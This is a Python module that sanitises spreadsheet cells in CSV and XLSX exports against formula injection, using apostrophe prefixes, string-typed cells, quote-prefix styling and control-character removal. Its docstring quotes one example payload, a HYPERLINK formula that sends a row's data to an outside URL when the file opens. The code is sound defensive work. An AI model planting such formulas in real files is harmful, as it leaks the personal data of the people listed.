"""Cells of every spreadsheet the station writes (reports, referral lists, the import template
and error sheet, any later export): text stays text.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is
taken as a formula by Excel, WPS and LibreOffice: a name or address typed as
``=HYPERLINK("http://…?"&B2&C2)`` would run when the file is opened and send the row away
(CSV/formula injection). So:

- XLSX: every text cell is stored as a string (``data_type`` ``s``), never as a formula, and a
  text that looks like one also gets Excel's *quote prefix* style, so that editing the cell
  does not turn it into a formula either. Characters XML cannot carry (NUL and other control
  characters) become U+FFFD; a text longer than Excel's cell limit is cut to it.
- CSV: the OWASP rule — such a text gets a leading apostrophe (``'=1+2``), which spreadsheet
  programs show as text. The full-width ``＝＋－＠`` count too (Chinese input methods type
  them, and some spreadsheet programs read them as formula signs).

Writers use ``csv_row`` / ``append_row`` for every row and ``save_workbook`` to write the file
(the workbook is built in memory and written in one go, so a full disk fails the write cleanly).
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
EXCEL_MAX_CHARS = 32767  # characters a cell may hold (Excel's limit)
# What an XML 1.0 document cannot hold (openpyxl refuses it): C0 controls but tab, LF, CR.
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def looks_like_formula(value: object) -> bool:
    """Would a spreadsheet program take this text for a formula?"""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV cell: a text that looks like a formula gets a leading apostrophe (OWASP)."""
    if looks_like_formula(value):
        return "'" + str(value)
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_text(value: str) -> str:
    """Text an XLSX cell can hold: XML-illegal characters replaced, cut to Excel's limit."""
    return _NOT_XML.sub("\ufffd", value)[:EXCEL_MAX_CHARS]


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every text stored as text, never a formula."""
    from openpyxl.cell.cell import Cell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = Cell(ws)
            cell.value = xlsx_text(value)
            cell.data_type = "s"  # whatever it starts with: a string, not a formula
            if looks_like_formula(value):
                cell.quotePrefix = True  # and it stays one when someone edits the cell
            row.append(cell)
        else:
            row.append(value)
    ws.append(row)


def save_workbook(wb: Any, path: Path) -> None:
    """Write an openpyxl workbook to ``path`` (a temporary file of ``fsutil.atomic_output``):
    built in memory, then written in one call, so that a full disk raises OSError here and
    leaves no half-closed zip file behind."""
    buf = io.BytesIO()
    wb.save(buf)
    with open(path, "wb") as fh:
        fh.write(buf.getbuffer())
        fh.flush()


__all__ = [
    "FORMULA_STARTS",
    "append_row",
    "csv_cell",
    "csv_row",
    "looks_like_formula",
    "save_workbook",
    "xlsx_text",
]
